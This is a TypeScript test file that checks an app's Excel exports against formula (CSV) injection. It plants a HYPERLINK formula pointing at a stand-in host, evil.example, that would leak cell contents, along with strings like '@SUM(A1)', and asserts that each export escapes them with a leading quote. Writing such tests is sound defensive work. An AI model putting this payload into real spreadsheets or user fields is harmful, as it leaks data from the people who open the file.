import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, logInAs, type TestSession } from "../test/factories";

/**
 * Spreadsheet exports never write a live formula (issue 17, OWASP "CSV Injection"): a name or title
 * that starts with = + - @ is written with a leading single quote, in every export that carries
 * users' text — the member registry, the indicators' children table and the reform ledger.
 */

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

let context: Awaited<ReturnType<typeof createTestApp>>;
let county: TestSession;

beforeAll(async () => {
  context = await createTestApp();
  county = await logInAs(context.app, "county");
  const renamed = await context.app.inject({
    method: "PATCH",
    url: `/api/v1/organizations/${context.tree.eastVillage1.id}`,
    headers: county.headers,
    payload: { name: FORMULA },
  });
  expect(renamed.statusCode, renamed.body).toBe(200);
});
afterAll(async () => context.close());

async function download(url: string): Promise<string[]> {
  const response = await context.app.inject({ method: "GET", url, headers: county.headers });
  expect(response.statusCode, response.body).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const texts: string[] = [];
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        texts.push(String(cell.value));
      }),
    ),
  );
  return texts;
}

describe("exported cells starting with = + - @", () => {
  it("the member registry (members.xlsx) writes the branch name with a leading quote", async () => {
    const cells = await download(`/api/v1/organizations/${context.tree.east.id}/members.xlsx?full=false`);
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).not.toContain(FORMULA);
  });

  it("the indicators' children table (export.xlsx) writes the organization name with a leading quote", async () => {
    const cells = await download(
      `/api/v1/organizations/${context.tree.east.id}/indicators/export.xlsx?ids=members_total`,
    );
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).not.toContain(FORMULA);
  });

  it("the reform ledger (ledger.xlsx) writes task titles, units and owners with a leading quote", async () => {
    const task = (number: number, title: string, units: string[]) => ({
      number,
      title,
      text: "内容",
      units,
      leadUnit: null,
      deadline: null,
      deadlineText: null,
      path: [],
      targets: [],
    });
    const created = await context.app.inject({
      method: "POST",
      url: `/api/v1/organizations/${context.tree.county.id}/plans`,
      headers: county.headers,
      payload: {
        title: "方案",
        phases: [],
        unplaced: [],
        tasks: [task(1, "+1+1", ["@SUM(A1)"]), task(2, "-2+3", ["县委组织部"]), task(3, "普通任务", [])],
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const cells = await download(`/api/v1/plans/${created.json().id}/ledger.xlsx`);
    for (const text of ["+1+1", "-2+3"]) {
      expect(cells).toContain(`'${text}`);
      expect(cells).not.toContain(text);
    }
    expect(cells.some((cell) => cell.startsWith("@"))).toBe(false);
    expect(cells).toContain("普通任务");
  });
});
